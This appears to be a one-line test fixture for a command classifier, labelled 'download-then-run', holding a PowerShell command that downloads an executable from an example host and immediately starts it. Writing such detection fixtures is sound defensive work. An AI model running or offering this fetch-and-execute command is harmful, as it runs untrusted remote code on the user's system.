# expect: download-then-run
Invoke-WebRequest https://get.tool.example/a.exe -OutFile a.exe; Start-Process a.exe
